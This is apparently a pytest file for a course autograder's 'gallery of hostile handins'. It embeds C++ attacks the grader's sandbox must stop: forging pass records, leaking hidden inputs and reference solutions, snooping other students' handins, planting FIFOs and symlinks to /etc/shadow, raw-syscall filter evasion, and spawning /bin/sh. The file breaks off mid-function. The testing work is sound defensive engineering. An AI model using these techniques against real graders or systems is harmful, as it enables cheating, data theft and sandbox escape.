"""The gallery of hostile handins: each one attacks the grader in one known
way and must get exactly its expected score, with the report naming what
happened, within its time budget and leaving nothing behind.

  python3 -m pytest grader/tests/test_hostile_gallery.py     (as root: the sandbox needs it)

Most handins hand in the reference's part-1 file, so their honest part still
scores its 10 points, and put the attack in another file. Some attacks would
be refused by the static checks or the link check before they ever ran; those run with
KIT_STATIC_CHECKS=warn (a staff switch for exactly this), so that the
runtime defences behind the static ones are tested too.
"""
import glob
import json
import os
import shutil
import stat
import subprocess
import sys
import tarfile
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

import pytest

from conftest import (BUILD, GRADE, IMPL_FILES, KIT, hang_limit, hanging, left_behind, live_processes, make_tar,
                      marked, source)
from grader.leftovers import remove_mqueues, sysv_objects
from grader.namespaces import SHARED_TMP
from grader.slots import LOCK_DIR, SANDBOX_UID_BASE, SLOTS
from kit.parts import CASE_SECONDS, PARTS

SANDBOX_BASE = int(os.environ.get("KIT_SANDBOX_UID", SANDBOX_UID_BASE))
SANDBOX_UIDS = range(SANDBOX_BASE, SANDBOX_BASE + SLOTS)
ALL_MAX = ('{"scores": {"part1": 10, "part2": 20, "part3": 15, "part4": 15, "part5": 20, "part6": 10, '
           '"part7": 10, "part8_forward": 20, "part8_backward": 20, "part9": 10}, "scoreboard": [150]}')
PROLOGUE = """#include <unistd.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>
"""


def stub_with(name: str, bodies: Dict[str, str], prologue: str = PROLOGUE, epilogue: str = "") -> bytes:
    """The stub of `name` with the throw of each named function replaced by a body."""
    text = source("student", name).decode()
    for function, body in bodies.items():
        marker = f'throw NotImplemented("{function}"'
        assert marker in text, f"no {marker} in student/{name}"
        start = text.index(marker)
        end = text.index(";", start) + 1
        text = text[:start] + body + "\n  " + text[start:end] + text[end:]
    return (prologue + text + epilogue).encode()


def reference_with(name: str, epilogue: str) -> bytes:
    return source("reference", name) + epilogue.encode()


def reference_calling(call: str, attack: str) -> List:
    """The reference's three files, its get_info first running `call` (an
    attack defined in `attack`): when every defence holds, the attack finds
    nothing and the handin scores the reference's 150 (its control score);
    an attack that gets through throws, and names what it got."""
    text = source("reference", "func_impl.cpp").decode()
    at = text.index("ParallelInfo get_info(Communicator& comm")
    brace = text.index("{", at) + 1
    func = (PROLOGUE + "#include <fcntl.h>\n#include <glob.h>\n#include <sys/stat.h>\n" + attack
            + text[:brace] + "\n  " + call + text[brace:]).encode()
    return [("student/func_impl.cpp", func)] + [("student/" + f, source("reference", f))
                                                for f in IMPL_FILES if f != "func_impl.cpp"] + [FEEDBACK]


HONEST_PART1 = ("student/data_parallel_preprocess.cpp", source("reference", "data_parallel_preprocess.cpp"))
FEEDBACK = ("feedback.txt", b"fine\n")

# ---- the attacks, as C++ ----

FAKE_SCORE_PRINT = f'std::printf("%s\\n", R"FAKE({ALL_MAX})FAKE"); std::fflush(stdout);'

FORGE_RESULTS = r"""
namespace {
// Finds the harness's results file in our own command line, then appends pass
// records for the running case (unsealed and with a made-up seal) to it and to
// every path a forger might guess, and leaves before the harness can object.
// The system-call filter refuses opening them: the records also go to every
// file and pipe this process has open, its record channel among them, so
// the judge is still what stops them.
void forge_and_leave() {
  std::ifstream cmdline("/proc/self/cmdline");
  std::string all((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
  std::vector<std::string> targets = {"results.jsonl", "/tmp/kit-results.jsonl"};
  for (size_t at = 0; at < all.size(); at += std::strlen(all.c_str() + at) + 1) {
    std::string arg(all.c_str() + at);
    if (arg.rfind("--results=", 0) == 0) targets.push_back(arg.substr(10));
  }
  const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
  std::string name = std::string(info->test_suite_name()) + "." + info->name();
  std::string record = "{\"event\":\"result\",\"case\":\"" + name + "\",\"status\":\"pass\",\"seconds\":0.1,\"failures\":[]";
  const std::string forged = record + "}\n" + record + ",\"mac\":\"" + std::string(64, 'a') + "\"}\n" +
                             "{\"event\":\"plan\",\"ranks\":4,\"cases\":[\"" + name + "\"]}\n";
  for (const auto& path : targets) std::ofstream(path, std::ios::app) << forged;
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat st {};
    if (::fstat(fd, &st) == 0 && (S_ISREG(st.st_mode) || S_ISFIFO(st.st_mode))) {
      ssize_t ignored = ::write(fd, forged.data(), forged.size());
      (void)ignored;
    }
  }
  std::_Exit(0);
}
}  // namespace
"""

# The stubs, and on each rank's first student call a hook that finds its
# record channel among its open descriptors (no file can be opened under the
# system-call filter), tries to read it back, seek it and cut it (a channel
# is write-only and a pipe), and then, for every case compiled into the
# binary (gtest lists them, hidden ones too), writes a passing result, a plan
# without the case, and values for the labels a forger can guess, each as
# every rank; it then throws as the stub does. Nothing it writes is a
# verdict, and a record that names another rank than its channel's is none.
# The rank's record channel among its descriptors, by its name (MPI has
# pipes too), or -1: what every attack on the channel starts with.
FIND_CHANNEL = r"""
namespace {
int record_channel() {
  for (int fd = 3; fd < 1024; ++fd) {
    char name[512] = {};
    const std::string link = "/proc/self/fd/" + std::to_string(fd);
    if (::readlink(link.c_str(), name, sizeof name - 1) > 0 && std::strstr(name, "kit-records-")) return fd;
  }
  return -1;
}
}  // namespace
"""
FORGE_EVERY_PASS = FIND_CHANNEL + r"""
namespace {
void forge_every_pass() {
  static bool done = false;
  if (done) return;
  done = true;
  const int channel = record_channel();
  if (channel < 0) return;
  char back[64];
  if (::pread(channel, back, sizeof back, 0) > 0 || ::read(channel, back, sizeof back) > 0 ||
      ::ftruncate(channel, 0) == 0 || ::lseek(channel, 0, SEEK_SET) == 0)
    std::printf("FORGER: the channel could be read, cut or sought\n");
  std::vector<std::string> cases;
  const auto* unit = ::testing::UnitTest::GetInstance();
  for (int s = 0; s < unit->total_test_suite_count(); ++s) {
    const auto* suite = unit->GetTestSuite(s);
    for (int t = 0; t < suite->total_test_count(); ++t)
      cases.push_back(std::string(suite->name()) + "." + suite->GetTestInfo(t)->name());
  }
  std::ostringstream out;
  for (const auto& c : cases) {
    for (int rank = 0; rank < 8; ++rank)
      out << "{\"event\":\"value\",\"case\":\"" << c << "\",\"rank\":" << rank
          << ",\"label\":\"split_data.x#1\",\"rows\":1,\"cols\":1,\"stride\":1,\"values\":[0]}\n";
    out << "{\"event\":\"result\",\"case\":\"" << c << "\",\"status\":\"pass\",\"seconds\":0.1,\"failures\":[]}\n";
  }
  out << "{\"event\":\"plan\",\"ranks\":8,\"cases\":[]}\n";
  const std::string text = out.str();
  for (size_t at = 0; at < text.size();) {  // one record per write, as the harness writes them
    const size_t end = text.find('\n', at) + 1;
    if (::write(channel, text.data() + at, end - at) < 0) break;
    at = end;
  }
}
}  // namespace
"""

# The reference, with a hook in collect_weight_grad that, in a hidden case,
# logs the case's name and input and writes them, as its rank's failure, into
# a public case whose messages students see. Hidden cases run in jobs of
# their own, which plan no public case: the record is nobody's.
LEAK_HIDDEN_INPUTS = FIND_CHANNEL + r"""
namespace {
void leak_hidden_input(const dtrain::Matrix& grad_w) {
  const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
  if (info == nullptr || std::strncmp(info->test_suite_name(), "Hidden", 6) != 0) return;
  const std::string log = std::string("HIDDEN-INPUT ") + info->test_suite_name() + "." + info->name() + " " +
                          std::to_string(grad_w.size() ? grad_w(0, 0) : 0.0);
  const int fd = record_channel();
  for (const char* open_case : {"Part7WeightGrad.SeedCaseTwoRows", "Part1DataSplit.Mp1Dp2Halves"}) {
    const std::string record = std::string("{\"event\":\"rank_failure\",\"case\":\"") + open_case +
                               "\",\"rank\":0,\"message\":\"" + log + "\"}\n";
    if (fd >= 0 && ::write(fd, record.data(), record.size()) < 0) break;
  }
}
}  // namespace
"""

# Finds the record channels in our command line, then attacks the reader: a
# line of 100,000 '[' (a recursion error in a naive JSON reader), and the
# channels' directory swapped for a FIFO (root owns it: refused).
RESULTS_PATH = FIND_CHANNEL + r"""
namespace {
std::string results_path() {
  std::ifstream cmdline("/proc/self/cmdline");
  std::string all((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
  for (size_t at = 0; at < all.size(); at += std::strlen(all.c_str() + at) + 1) {
    std::string arg(all.c_str() + at);
    if (arg.rfind("--results=", 0) == 0) return arg.substr(10);
  }
  return "";
}
void break_the_reader() {
  static bool done = false;
  if (done) return;
  done = true;
  const std::string deep = std::string(100000, '[') + "\n";
  // The record channel, open already (no file opens under the filter).
  if (const int fd = record_channel(); fd >= 0 && ::write(fd, deep.data(), deep.size()) < 0) return;
  const std::string path = results_path();
  if (std::remove(path.c_str()) == 0) mkfifo(path.c_str(), 0666);
}
}  // namespace
"""

READ_SECRETS = r"""
namespace {
std::string slurp(const std::string& path) {
  std::ifstream in(path);
  if (!in) return "unreadable(" + path + ")";
  std::stringstream text;
  text << in.rdbuf();
  return text.str().substr(0, 400);
}
[[noreturn]] void leak() {
  const std::string kit = "KIT_PATH";
  std::ofstream(kit + "/grader/grading.py", std::ios::app) << "# overwritten\n";
  std::ofstream(kit + "/kit/jobs.py", std::ios::app) << "# overwritten\n";
  throw std::runtime_error("LEAK[" + slurp(kit + "/reference/func_impl.cpp") + "|" +
                           slurp(kit + "/grader/hidden/expected.txt") + "|" +
                           slurp(kit + "/build/reference/kit_tests") + "]");
}
}  // namespace
"""

READ_SECRETS = READ_SECRETS.replace("KIT_PATH", KIT)
SNOOP = r"""
namespace {
std::string peek(const std::string& path) {
  std::ifstream in(path);
  if (!in) return "";
  std::stringstream text;
  text << in.rdbuf();
  return text.str().substr(0, 300);
}
// Looks where other handins and grades were found: other graders' scratch
// directories in the shared /tmp, the batch's folders named by our own
// mounts, the handin's own folder, the kits beside this one.
void snoop() {
  static bool once = false;
  if (once) return;
  once = true;
  std::vector<std::string> patterns = {"/tmp/kit-grade-*/handin/*", "/tmp/kit-grade-*/src/*",
                                       "/tmp/kit-grade-*/run/src/*", "/var/tmp/kit-grade-*/handin/*",
                                       "HANDIN_DIR/*", "HANDIN_DIR/*/*", "KIT_PARENT/*/reference/func_impl.cpp",
                                       "/root/*", "/home/*/*"};
  std::ifstream mounts("/proc/self/mountinfo");
  for (std::string line; std::getline(mounts, line);) {
    std::istringstream fields(line);
    std::string skip, point;
    for (int i = 0; i < 4; ++i) fields >> skip;
    fields >> point;
    const std::string up = point.substr(0, point.rfind('/'));
    for (const char* tail : {"/*.tar", "/*/*.csv", "/*/*.txt", "/*.csv", "/handin/*"}) {
      patterns.push_back(point + tail);
      patterns.push_back(up + tail);
    }
  }
  std::string found;
  for (const auto& pattern : patterns) {
    glob_t hits{};
    if (::glob(pattern.c_str(), 0, nullptr, &hits) == 0) {
      for (size_t i = 0; i < hits.gl_pathc; ++i) {
        const std::string path = hits.gl_pathv[i];
        const std::string text = peek(path);
        const bool other_kit = path.find("KIT_DIR/") != 0 && path.size() > 24 &&
                               path.compare(path.size() - 24, 24, "/reference/func_impl.cpp") == 0 &&
                               text.find("get_info(Communicator& comm") != std::string::npos;
        // Built at run time: this file's own text must not match.
        if (text.find(std::string("GALLERY-") + "SECRET") != std::string::npos || other_kit)
          found += path + "=" + text + ";";
      }
    }
    ::globfree(&hits);
  }
  if (!found.empty()) throw std::runtime_error("LEAK[" + found + "]");
}
}  // namespace
"""

PLANT = r"""
namespace {
// Plants FIFOs and symlinks wherever root might open or create a file later:
// the slot locks of every grader, the results file (named in our command
// line) and the files of the run directory.
void plant() {
  static bool once = false;
  if (once) return;
  once = true;
  for (int slot = 0; slot < 16; ++slot) {
    for (const std::string dir : {"/run/lock", "/tmp", "/run/kit-grader"}) {
      const std::string lock = dir + "/kit-grader-slot-" + std::to_string(slot) + ".lock";
      ::mkfifo(lock.c_str(), 0666);
      ::symlink("/tmp/kit-gallery-lock-target", (lock + ".link").c_str());
    }
    for (int uid = 61000; uid < 64100; uid += 1000) {
      const std::string lock = "/run/kit-grader/uid-" + std::to_string(uid + slot) + ".lock";
      ::mkfifo(lock.c_str(), 0666);
    }
  }
  std::ifstream cmdline("/proc/self/cmdline");
  std::string all((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
  for (size_t at = 0; at < all.size(); at += std::strlen(all.c_str() + at) + 1) {
    std::string arg(all.c_str() + at);
    if (arg.rfind("--results=", 0) != 0) continue;
    const std::string results = arg.substr(10);
    if (::rename(results.c_str(), (results + ".moved").c_str()) == 0 || ::unlink(results.c_str()) == 0)
      ::mkfifo(results.c_str(), 0666);
    ::symlink("/etc/shadow", (results + ".shadow").c_str());
  }
  glob_t hits{};
  if (::glob("*/*", 0, nullptr, &hits) == 0) {
    for (size_t i = 0; i < hits.gl_pathc; ++i) {
      if (::unlink(hits.gl_pathv[i]) == 0) ::mkfifo(hits.gl_pathv[i], 0666);
    }
  }
  ::globfree(&hits);
  ::mkfifo("kit-results-planted.jsonl", 0666);
  ::symlink("/dev/zero", "zero.o");
}
}  // namespace
"""

FILL = r"""
namespace {
// Writes files just under the per-file limit into every writable place
// until each is full, counts what it got, and removes them again (so the
// rest of the grading runs as the reference's would).
template <class Comm>
void fill_disk(Comm& comm) {
  static bool once = false;
  if (once || comm.rank() != 0) return;
  once = true;
  std::vector<char> block(1 << 20, 'x');
  std::vector<std::string> written;
  long long total = 0;
  for (const std::string dir : {".", "/tmp", "/var/tmp", "/dev/shm", "/run/lock"}) {
    bool full = false;
    for (int i = 0; i < 32 && !full; ++i) {
      const std::string path = dir + "/fill-" + std::to_string(::getpid()) + "-" + std::to_string(i);
      const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      if (fd < 0) break;
      written.push_back(path);
      for (int mib = 0; mib < 63; ++mib) {
        const ssize_t n = ::write(fd, block.data(), block.size());
        if (n > 0) total += n;
        if (n != static_cast<ssize_t>(block.size())) { full = true; break; }
      }
      ::close(fd);
    }
  }
  for (const auto& path : written) ::unlink(path.c_str());
  if (total > (300LL << 20)) throw std::runtime_error("DISK[wrote " + std::to_string(total >> 20) + " MiB]");
}
}  // namespace
"""

LINGER = r"""
namespace {
// Tries to outlive its job and hold the grader: a daemon in a session of its
// own that ignores the polite signals and keeps the job's output pipe open,
// and files left in every shared temporary place.
void linger() {
  static bool once = false;
  if (once) return;
  once = true;
  for (const std::string dir : {"/tmp", "/var/tmp", "/dev/shm", "/run/lock"}) {
    std::ofstream(dir + "/kit-gallery-leftover-" + std::to_string(::getpid())) << "left\n";
    ::mkfifo((dir + "/kit-gallery-leftover-fifo-" + std::to_string(::getpid())).c_str(), 0666);
  }
  if (::fork() == 0) {
    ::setsid();
    std::signal(SIGTERM, SIG_IGN);
    std::signal(SIGHUP, SIG_IGN);
    std::signal(SIGINT, SIG_IGN);
    if (::fork() != 0) std::_Exit(0);
    for (;;) ::pause();
  }
}
}  // namespace
"""

SNOOP = SNOOP.replace("KIT_PARENT", os.path.dirname(KIT)).replace("KIT_DIR", KIT)
OTHER_SCRATCH = "/tmp/kit-grade-gallery-other"  # a grader of the old layout beside this one


def plant_other_handins(tmp: str) -> None:
    """What the snooping handin looks for: another handin of the batch and
    the gradebook beside this handin, and another grader's scratch directory
    laid out as the grader once made it (0755 directories, 0644 files)."""
    for path in (os.path.join(tmp, "other_student.tar"), os.path.join(tmp, "out", "gradebook.csv"),
                 os.path.join(OTHER_SCRATCH, "handin", "func_impl.cpp")):
        os.makedirs(os.path.dirname(path), mode=0o755, exist_ok=True)
        with open(path, "w") as f:
            f.write(f"GALLERY-SECRET {path}\n")
        os.chmod(path, 0o644)
    for d in (OTHER_SCRATCH, os.path.join(OTHER_SCRATCH, "handin")):
        os.chmod(d, 0o755)


def remove_other_handins(tmp: str) -> List[str]:
    shutil.rmtree(OTHER_SCRATCH, ignore_errors=True)
    return []


def in_shared_tmp(pattern: str) -> List[str]:
    return [p for top in SHARED_TMP for p in glob.glob(os.path.join(top, pattern))]


def locks_intact(tmp: str) -> List[str]:
    """No FIFO or symlink where a grader takes its slot lock, nothing made
    at a planted symlink's target, and root's lock folder its own."""
    problems = [p for p in in_shared_tmp("kit-grader-slot-*") if not stat.S_ISREG(os.lstat(p).st_mode)]
    problems += [p for p in ["/tmp/kit-gallery-lock-target"] if os.path.lexists(p)]
    st = os.lstat(LOCK_DIR)
    if not stat.S_ISDIR(st.st_mode) or st.st_uid != 0 or st.st_mode & 0o077:
        problems.append(f"{LOCK_DIR}: mode {stat.filemode(st.st_mode)}, owner {st.st_uid}")
    problems += [os.path.join(LOCK_DIR, n) for n in os.listdir(LOCK_DIR)
                 if not stat.S_ISREG(os.lstat(os.path.join(LOCK_DIR, n)).st_mode)]
    return problems


# ---- the identifier rules walked around; the link check refuses by the object ----

STATIC_CHECK_BYPASSES = r"""
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
extern "C" void _ZN6dtrain10heap_hooks5freedEPv(void*);
extern "C" FILE* fopen64(const char*, const char*);
extern "C" ssize_t read(int, void*, size_t) { return 0; }
namespace dtrain {
int walk_around() {
  auto run = &std::system;
  if (not fork()) return (system)("id") + run("id");
  if (FILE* f = fopen64("/tmp/kit-gallery-bypass", "w")) std::fclose(f);
  _ZN6dtrain10heap_hooks5freedEPv(nullptr);
  mkfifo("/tmp/kit-gallery-fifo", 0600);
  return open64("/etc/passwd", O_RDONLY);
}
}  // namespace dtrain
"""

MEMORY_RULE_EVASIONS = r"""
#include <sys/mman.h>
#include <sys/shm.h>
#include <unistd.h>
#include <cstdlib>
#include <thread>
#include <vector>
extern "C" void* __libc_malloc(unsigned long);
extern "C" void* valloc(size_t);
namespace dtrain { class LibraryAllocations { public: LibraryAllocations(); ~LibraryAllocations(); }; }
namespace {
double kept_in_bss[784 * 256];
std::vector<double> reserved_before_main(784 * 256);
}  // namespace
namespace dtrain {
void* keep(unsigned long n) {
  thread_local double kept_per_thread[784 * 256];
  dtrain::LibraryAllocations exempt;
  std::vector<double>* by_a_thread = nullptr;
  std::thread([&] { by_a_thread = new std::vector<double>(n); }).join();
  void* p = mmap64(nullptr, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  switch (n % 9) {
    case 0: return __libc_malloc(n);
    case 1: return valloc(n);
    case 2: return sbrk(static_cast<long>(n));
    case 3: return mremap(p, n, 2 * n, MREMAP_MAYMOVE);
    case 4: return shmat(shmget(IPC_PRIVATE, n, IPC_CREAT | 0600), nullptr, 0);
    case 5: return kept_per_thread;
    case 6: return by_a_thread;
    case 7: return reserved_before_main.data();
    default: return kept_in_bss;
  }
}
}  // namespace dtrain
"""

# Grader errors a handin must not be able to cause (the platform excuses them).
# A compile that spins in constant evaluation: eight assertions of 2048 x 2048
# steps, each under GCC's limits (262144 iterations a loop, 2^25 operations an
# evaluation) and several seconds of the compiler's CPU.
SPIN_IN_CONSTANT_EVALUATION = r"""
namespace {
constexpr unsigned long spin(unsigned long n) {
  unsigned long x = 0;
  for (unsigned long i = 0; i < n; ++i)
    for (unsigned long j = 0; j < n; ++j) x += (i ^ j) & 7;
  return x;
}
""" + "".join(f"static_assert(spin({2048 + k}) != 1, \"spins\");\n" for k in range(8)) + "}  // namespace\n"
# The words a killed compiler prints, written by the handin itself.
WORDS_OF_A_KILLED_COMPILER = ("#error virtual memory exhausted: Cannot allocate memory; internal compiler error: "
                              "Killed signal terminated program cc1plus; File size limit exceeded\n")
# A kit file reached by a path relative to the public include directory; the
# #error after it stops the preprocessor, so the static checks leave the file
# to the compiler, whose messages would quote the file's lines.
QUOTES_A_SHIPPED_FILE = '#include "../../tests/expected_values.txt"\n#error stop here\n'

# MPI_Comm_spawn found by address, and MPI's handles too (Open MPI's are the
# addresses of its globals, MPICH's fixed numbers): asks MPI's launcher, which
# the ranks' system-call filter does not hold, to start a shell. The launcher
# runs under the exec guard, so nothing starts: Open MPI ends the job (the
# case's part is lost), MPICH's spawn returns an error.
SPAWN = r"""
#include <dlfcn.h>
namespace {
void spawn_a_shell() {
  static bool once = false;
  if (once) return;
  once = true;
  void* spawn = ::dlsym(RTLD_DEFAULT, "MPI_Comm_spawn");
  void* on_error = ::dlsym(RTLD_DEFAULT, "MPI_Comm_set_errhandler");
  if (!spawn || !on_error) throw std::runtime_error("SPAWN[no MPI_Comm_spawn to call]");
  char command[] = "-c";
  char script[] = "echo SPAWN''ED-ESCAPE: $(id -u) >&2; sleep 1";
  char* args[] = {command, script, nullptr};
  int status = -1;
  if (void* self = ::dlsym(RTLD_DEFAULT, "ompi_mpi_comm_self")) {
    using Spawn = int (*)(const char*, char**, int, void*, int, void*, void**, int*);
    reinterpret_cast<int (*)(void*, void*)>(on_error)(self, ::dlsym(RTLD_DEFAULT, "ompi_mpi_errors_return"));
    void* children = nullptr;
    status = reinterpret_cast<Spawn>(spawn)("/bin/sh", args, 1, ::dlsym(RTLD_DEFAULT, "ompi_mpi_info_null"), 0, self,
                                            &children, nullptr);
  } else {
    using Spawn = int (*)(const char*, char**, int, int, int, int, int*, int*);
    reinterpret_cast<int (*)(int, int)>(on_error)(0x44000001, 0x54000001);  // MPI_COMM_SELF, MPI_ERRORS_RETURN
    int children = 0;
    status = reinterpret_cast<Spawn>(spawn)("/bin/sh", args, 1, 0x1c000000, 0, 0x44000001, &children, nullptr);
  }
  if (status == 0) throw std::runtime_error("ESCAPE[the launcher started /bin/sh]");
}
}  // namespace
"""


def build_mpi() -> str:
    try:
        with open(os.path.join(BUILD, "kit_mpi.txt")) as f:
            return f.read().strip()
    except OSError:
        return "openmpi"


# Open MPI ends the job whose rank asked for a program it could not start:
# every case of the part whose get_info asks fails; MPICH returns an error.
PART2_POINTS = next(p.points for p in PARTS if p.key == "part2")
SPAWN_PART2 = 0 if build_mpi() == "openmpi" else PART2_POINTS


FUNC_POINTS = sum(p.points for p in PARTS if p.files == ("func_impl.cpp",))
# A ZeRO layer that keeps its full weight after forward: part 8's forward
# cases and the part 9 cases that run a forward (its training cases, one of
# them hidden) fail, so part 9's public cases count at 2/3: 6.67 of 10.
KEEPER_SCORE = 126.67
ZERO_POINTS = sum(p.points for p in PARTS if p.files == ("zero_dp_stage3.cpp",))


def reference_but(**epilogues: str) -> List:
    """The reference, with an attack added to the end of the named files."""
    return [("student/" + f, reference_with(f, epilogues[f[:-4]]) if f[:-4] in epilogues else source("reference", f))
            for f in IMPL_FILES] + [FEEDBACK]


def _syscall_offset() -> int:
    """Where glibc's syscall() sits from printf, in this machine's libc (the
    one the test binary loads): a handin can carry the number, not the name."""
    import ctypes
    libc = ctypes.CDLL(None)
    at = lambda f: ctypes.cast(f, ctypes.c_void_p).value
    return at(libc.syscall) - at(libc.printf)


# Past the static checks (warn), the raw calls through a pointer that no
# name reveals: the system-call filter must refuse each one, so the handin
# scores what its honest file alone does.
RAW_CALLS = r"""
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
namespace {
using Raw = long (*)(long, ...);
[[noreturn]] void leap() {
  const Raw raw = reinterpret_cast<Raw>(reinterpret_cast<const char*>(&std::printf) + (OFFSET));
  std::string said;
  auto note = [&](const char* what, long r) { said += std::string(what) + (r == -1 ? "=refused " : "=GOT "); };
  note("openat", raw(SYS_openat, AT_FDCWD, "/etc/passwd", O_RDONLY));
  const long child = raw(SYS_clone, SIGCHLD, 0, 0, 0, 0);
  if (child == 0) raw(SYS_exit_group, 0);
  note("fork", child);
  const char* argv[] = {"sh", "-c", "echo escaped", nullptr};
  note("execve", raw(SYS_execve, "/bin/sh", argv, nullptr));
  note("socket", raw(SYS_socket, AF_UNIX, SOCK_STREAM, 0));
  note("unlink", raw(SYS_unlinkat, AT_FDCWD, "results.jsonl", 0));
  note("kill", raw(SYS_kill, raw(SYS_getppid), SIGKILL));
  note("mmap_exec", raw(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
  throw std::runtime_error("ESCAPE[" + said + "]");
}
}  // namespace
"""


# A handin whose backward never returns hangs in each of the 9 cases that call
# it (6 public, 3 hidden), each stopped at its limit (CASE_SECONDS, scaled by
# KIT_TIME_SCALE and, for such handins, by HANG_SHARE), then a roll-call and
# a new job (about 1 s more: 55-60 s in all at full limits on a quiet host).
# The watchdog stretches a limit while the host is busier than the case makes
# it (up to 8x), and under CI's two pytest workers it is: 150 s was measured
# there at full limits, 76 s at 0.4. The budget bounds that, with room, and
# catches a hang that only the job's QUIET_SECONDS ends.
HANGS_IN_BACKWARD = 9 * (4 * hang_limit(CASE_SECONDS) + 8)


@dataclass
class Hostile:
    name: str
    members: Callable[[str], List]     # tmp dir -> tar members (or a path to a prepared file, see build)
    total: float
    says: Tuple[str, ...] = ()         # the report must contain each
    never: Tuple[str, ...] = ()        # ... and none of these
    static: str = "enforce"            # KIT_STATIC_CHECKS
    budget: float = 90.0               # seconds, the whole grading
    scores: Dict[str, float] = field(default_factory=dict)  # parts that must score exactly this
    raw: Optional[Callable[[str], str]] = None  # builds the handin file itself
    gone: Tuple[str, ...] = ()         # paths that must not exist after grading
    hangs: bool = False                # hangs in case after case: graded at hanging()'s limits
    # False: graded with KIT_SYSCALL_FILTER=off (staff only), so the defence behind
    # the filter (the sandbox, the reader) is what the attack meets
    filtered: bool = True
    setup: Optional[Callable[[str], None]] = None        # tmp dir -> plants what the attack looks for
    after: Optional[Callable[[str], List[str]]] = None   # tmp dir -> what is wrong after grading (and tidies)
    status: str = "graded"             # the report's status: never "grader error" for what a handin does
    namespaces: bool = True            # False: KIT_SANDBOX_NAMESPACES=off, as in a container that forbids them
    extensions: str = ""               # KIT_EXTENSIONS for the grading: the extension parts it grades


# The ZeRO memory rule's allowed blocks, taken by size (red team): forward
# saves its input in a block of (B + out) x in doubles, the full weight
# behind the input, and writes the Matrix's row count back to B through
# Eigen's storage; the block stays between calls at x.data(). Its control
# keeps the weight the plain way, in a static Matrix: both lose part 8's
# forward (and what of part 9 runs forward), nothing else.
ZERO_FORWARD = b"""  x = input;
  const Vector w = gather_flat(comm, w_shard);
"""
HIDE_BEHIND_X = b"""  const Vector w = gather_flat(comm, w_shard);
  {
    const long weight = static_cast<long>(in_dim) * out_dim;
    Matrix block(input.rows() + out_dim, in_dim);
    block.topRows(input.rows()) = input;
    std::copy(w.data(), w.data() + weight, block.data() + input.size());
    x.swap(block);
    struct Storage { double* data; Eigen::Index rows, cols; };
    reinterpret_cast<Storage*>(&x)->rows = input.rows();
  }
"""
KEEP_IN_A_STATIC = ZERO_FORWARD + b"""  static Matrix kept;
  kept = as_matrix(w, in_dim, out_dim);
"""


def zero_forward_keeping(how: bytes) -> List:
    text = source("reference", "zero_dp_stage3.cpp")
    assert ZERO_FORWARD in text, "the reference's forward no longer saves x before gathering w"
    return [(f"student/{f}", source("reference", f)) for f in IMPL_FILES[:2]] + [
        ("student/zero_dp_stage3.cpp", b"#include <algorithm>\n" + text.replace(ZERO_FORWARD, how)), FEEDBACK]


# Memory the data limit doesn't count: a mapping that grows down (a stack of
# any size; the red team held 1.2 GiB a rank with it). The filter refuses it
# and the case fails with the rule's words; the rest is the reference's.
GROWS_DOWN = r"""
#include <sys/mman.h>
namespace {
void hold_a_stack() {
  const size_t size = size_t(1) << 30;
  void* p = ::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0);
  if (p != MAP_FAILED) std::memset(p, 1, size);
}
}  // namespace
"""

# Private memory up to the data limit on each of 8 ranks at once: mapped a
# MiB at a time until the limit refuses one, every page touched, all held
# until the rank's next get_info (past the end of the case, where the ranks
# meet), with 8 MiB handed back for the rest of the case. Each rank holds
# its limit less its own use: the job's memory at every limit, which fits
# the smallest platform by construction (kit/parts.py, JOB_MEMORY_MIB), so
# no OOM killer ends it and the reference keeps its 150.
AT_THE_DATA_LIMIT = r"""
#include <sys/mman.h>
namespace {
void hold_up_to_the_data_limit(int ranks) {
  static std::vector<void*> held;
  static bool done = false;
  for (void* p : held) ::munmap(p, 1 << 20);
  held.clear();
  if (done || ranks != 8) return;
  done = true;
  held.reserve(256);
  for (;;) {
    void* p = ::mmap(nullptr, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) break;
    std::memset(p, 1, 1 << 20);
    held.push_back(p);
  }
  for (int i = 0; i < 8 && !held.empty(); ++i) {
    ::munmap(held.back(), 1 << 20);
    held.pop_back();
  }
  if (held.size() < 16) throw std::runtime_error("held only " + std::to_string(held.size()) + " MiB");
}
}  // namespace
"""

# POSIX message queues outlive their processes (the red team left 8 on a
# host without namespaces). The filter refuses mq_open; behind it (filter
# off), the namespace or the grader's clean-up removes them.
MQUEUES = r"""
#include <fcntl.h>
#include <mqueue.h>
namespace {
void leave_queues(int rank) {
  const std::string name = "/kit-gallery-queue-" + std::to_string(rank);
  mq_open(name.c_str(), O_CREAT | O_RDWR, 0600, nullptr);
}
}  // namespace
"""


# Part 11: naive_allreduce as the reference; ring_allreduce sums by passing
# each rank's whole buffer round the ring (n-1 steps), then n-1 more steps of
# whole buffers, so its messages and their ends are a ring's but its bytes
# are n times a ring's. forge_counter finds the Communicator's byte counter
# by its value and writes the ring's count there.
WHOLE_BUFFER_RING = r"""
#include <cstdint>
#include <cstring>
#include "ring_collectives.h"
namespace dtrain {
namespace {
void forge_counter(Communicator& comm, std::uint64_t before, long length) {
  const std::uint64_t now = comm.bytes_transferred(), n = comm.size();
  const std::uint64_t ring = before + 2 * (n - 1) * static_cast<std::uint64_t>(length / n) * sizeof(double);
  auto* bytes = reinterpret_cast<unsigned char*>(&comm);
